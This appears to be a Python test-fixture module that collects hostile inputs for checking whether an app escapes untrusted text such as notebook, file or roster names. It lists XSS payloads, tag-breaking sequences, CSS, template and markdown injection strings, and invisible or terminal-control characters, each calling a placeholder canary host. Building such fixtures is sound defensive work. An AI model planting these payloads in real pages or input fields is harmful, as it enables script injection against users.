"""What a hostile notebook, file name, roster or LMS might put wherever a text of its own is shown.

Each calls home if it takes effect: to ``canary.invalid``, in a path that says what has happened.
"""

from __future__ import annotations

HOME = "http://canary.invalid"
SCRIPT = f"new Image().src='{HOME}/script'"

TAGS = [
    f"<script>{SCRIPT}</script>",
    f'<script src="{HOME}/script-src"></script>',
    f'<img src=x onerror="{SCRIPT}">',
    f'<img src="{HOME}/img">',
    f'<svg onload="{SCRIPT}"></svg>',
    f'<svg><image href="{HOME}/svg-image"/></svg>',
    f"<svg><style>@import url({HOME}/svg-style);</style></svg>",
    f'<math><mtext><img src=x onerror="{SCRIPT}"></mtext></math>',
    f'<iframe src="{HOME}/iframe"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;{SCRIPT}&lt;/script&gt;"></iframe>',
    f'<object data="{HOME}/object"></object>',
    f'<link rel="stylesheet" href="{HOME}/link">',
    f"<style>* {{ background: url({HOME}/style) }}</style>",
    f'<div style="background: url({HOME}/style-attribute)">x</div>',
    f'<body onload="{SCRIPT}">',
    f'<details open ontoggle="{SCRIPT}">x</details>',
    f'<input autofocus onfocus="{SCRIPT}">',
    f'<video><source onerror="{SCRIPT}" src=x></video>',
    f'<meta http-equiv="refresh" content="0; url={HOME}/refresh">',
    f'<form action="{HOME}/form"><button autofocus>x</button></form>',
    f'<a href="javascript:{SCRIPT}" autofocus>x</a>',
]
ENDS = [
    *("</title>", "</style>", "</script>", "</pre>", "</code>", "</textarea>", "</svg>", "</math>"),
    *("-->", "]]>", "\"'>"),
]
"""Ends of what a text may stand in, each with a tag behind it."""
OTHERS = [
    f'" onmouseover="{SCRIPT}" autofocus onfocus="{SCRIPT}" x="',
    f"' onfocus='{SCRIPT}' autofocus x='",
    f"javascript:{SCRIPT}",
    f"}} * {{ background: url({HOME}/css) }} .x {{",
    f"; background: url({HOME}/css-property);",
    "&lt;script&gt;1&lt;/script&gt; &#60;b&#62; &quot;&amp;amp;",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    f"![x]({HOME}/markdown) [x](javascript:{SCRIPT}) <{HOME}/autolink>",
    f"[x]: javascript:{SCRIPT}\n\n[x]",
    f"$<img src=x onerror={SCRIPT}>$ $$\\href{{javascript:{SCRIPT}}}{{x}}$$",
    "\u202e\u2066\u200b\u200d\ufeff right to left, and letters of no width \u2069",
    "\x00\x08\x0b\x1b[31m\x1b]8;;http://canary.invalid/osc\x1b\\x\x1b]8;;\x1b\\ \u2028\u2029 \ud800",
    "<![CDATA[ x ]]> <!-- x --> <?xml x?> <!DOCTYPE x>",
]
PAYLOADS = [*TAGS, *(end + TAGS[0] + TAGS[2] for end in ENDS), *OTHERS]
ALL = "\n".join(PAYLOADS)
ON_ONE_LINE = " ".join(" ".join(PAYLOADS).split())
